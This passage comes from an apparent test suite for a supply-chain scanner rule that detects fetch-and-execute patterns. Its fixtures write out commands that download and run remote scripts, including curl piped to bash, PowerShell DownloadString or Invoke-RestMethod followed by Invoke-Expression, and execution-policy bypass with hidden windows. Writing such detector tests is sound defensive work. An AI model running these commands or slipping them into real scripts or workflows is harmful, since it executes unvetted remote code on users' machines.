    assert.deepEqual(lines("$s = irm https://get.example.com/i.ps1\nWrite-Host 'then run: iex $s'\n"), []);
  });

  it("reports the variable form in a .ps1 script and in a windows-latest workflow step", async () => {
    const wf = "on: push\njobs:\n  w:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          $s = (New-Object Net.WebClient).DownloadString('https://get.example.com/a.ps1')\n          Invoke-Expression $s\n";
    const { findings } = await run({ "setup.ps1": "$s = Invoke-RestMethod https://get.example.com/i.ps1\nInvoke-Expression $s\n", ".github/workflows/w.yml": wf });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine, f.locations[0]?.endLine, f.evidence["how"]]), [
      [".github/workflows/w.yml", 7, 8, "variable"],
      ["setup.ps1", 1, 2, "variable"],
    ]);
    assert.match(findings[1]!.message, /keeps a download of https:\/\/get\.example\.com\/i\.ps1 from Invoke-RestMethod in a variable and runs it with Invoke-Expression/);
  });

  it("reads the script pwsh or powershell runs from -File, not an option's value", async () => {
    const get = "Invoke-WebRequest https://get.example.com/e.ps1 -OutFile e.ps1\n";
    for (const runIt of ["powershell -ExecutionPolicy Bypass -File .\\e.ps1", "pwsh -NoProfile -ExecutionPolicy Bypass -File e.ps1", "pwsh -ep Bypass -f ./e.ps1", "powershell -NoLogo -WindowStyle Hidden .\\e.ps1", "& .\\e.ps1"]) {
      const { findings } = await run({ "setup.ps1": `${get}${runIt}\n` });
      assert.deepEqual(findings.map((f) => [f.evidence["how"], f.locations[0]?.endLine]), [["download-then-run", 2]], runIt);
    }
    assert.deepEqual((await run({ "setup.ps1": `${get}pwsh -Command "Write-Host e.ps1"\n` })).findings, []);
  });
});

describe("supply-chain/fetch-execute: shell forms", () => {
  it("reads a here-string fed to a shell, a wrapper named by its path, and a shell's own options", () => {
    assert.deepEqual(how('bash <<< "$(curl -fsSL https://get.example.com/i.sh)"'), ["substitution:bash"]);
    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | /usr/bin/env bash"), ["pipe:bash"]);
    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | bash -e -u"), ["pipe:bash"]);
    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | bash -o pipefail"), ["pipe:bash"]);
    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | bash -euo pipefail -x"), ["pipe:bash"]);
    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | sh -s -- --yes"), ["pipe:sh"]);
    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | busybox sh"), ["pipe:busybox"]);
    assert.deepEqual(how("curl -fsSLo i.sh https://get.example.com/i.sh\nbash -o pipefail i.sh"), ["download-then-run:bash"]);
  });

  it("leaves a shell that runs something else alone", () => {
    assert.deepEqual(how("curl -fsSL https://get.example.com/a.json | bash -c 'jq .'"), []);
    assert.deepEqual(how("curl -fsSL https://get.example.com/a.json | bash -o pipefail ./parse.sh"), []);
    assert.deepEqual(how("curl -fsSL https://get.example.com/a.json | node -e 'process.stdin.pipe(process.stdout)'"), []);
    assert.deepEqual(how('cat <<< "$(curl -fsSL https://get.example.com/a.json)"'), []);
  });
});
